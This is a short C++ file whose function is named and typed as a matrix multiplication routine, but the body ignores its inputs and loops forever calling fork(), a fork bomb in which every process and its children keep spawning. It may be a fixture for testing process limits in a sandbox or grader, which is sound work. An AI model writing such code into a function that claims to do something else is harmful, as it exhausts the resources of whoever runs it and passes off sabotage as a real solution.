#include <unistd.h>

#include <cstddef>
#include <vector>

std::vector<double> multiply(const std::vector<double>& a, const std::vector<double>& b,
                             std::size_t n, std::size_t tasks) {
  static_cast<void>(a);
  static_cast<void>(b);
  static_cast<void>(tasks);
  // Every process forks, and its children do.
  for (;;) {
    if (fork() < 0) pause();
  }
  return std::vector<double>(n * n);
}
